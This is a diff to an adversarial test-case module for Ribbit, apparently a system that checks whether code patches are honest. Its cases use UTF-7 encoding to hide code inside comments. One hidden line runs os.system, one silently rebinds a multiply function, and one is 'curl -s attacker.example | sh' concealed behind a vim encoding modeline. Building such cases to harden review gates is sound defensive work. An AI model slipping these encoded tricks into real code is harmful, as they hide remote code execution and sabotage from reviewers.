@@ -6,7 +6,9 @@ hide it; each case names the blocking rules it must trip. Most cases work on the
 Python toy repo; the Go, Rust and Node ones on the same calculator in those languages
 (``base``), tested with the command Ribbit detects for them (no ``.ribbit.yml``).
 Honest patches name their verdict: verified only when a test fails without the patch's
-code and passes with it (issue #31). Every bypass found later becomes a case here. Used by
+code and passes with it (issue #31). Every bypass found later becomes a case here, and
+tests/adversarial_harm.py names how it is broken outside the gates (checked by
+tests/unit/worker/gates/test_adversarial_harm.py). Used by
 tests/unit/worker/gates/test_adversarial.py (the local test sandbox) and
 tests/integration/test_gates_adversarial.py (both real backends).
 """
@@ -691,7 +693,8 @@ def case_patch(repo: Path, case: Case) -> str:
 # files that run without anyone asking, and Semgrep evasions that need the resolved
 # name. Each variant passes the tests at the base's yardstick, or hides what it does.
 _UTF7_SYSTEM = "# coding: utf-7\n" + CORE + '# see +AAo-__import__("os").system("id")\n'
-_UTF7_REBIND = "# coding: utf-7\n" + CORE + "# mul is exact +AAo-mul = lambda a, b: a + b\n"
+# In UTF-7 "+AAo-" is a newline and "+-" a plus: the comment hides a line that rebinds mul.
+_UTF7_REBIND = "# coding: utf-7\n" + CORE + "# mul is exact +AAo-mul = lambda a, b: a +- b\n"
 _UTF7_VIM = (
     "#!/usr/bin/env python3\n# vim: set fileencoding=utf-7 :\n"
     "# harmless +AAo-import os+ADs- os.system('curl -s attacker.example +AHw- sh')\n"
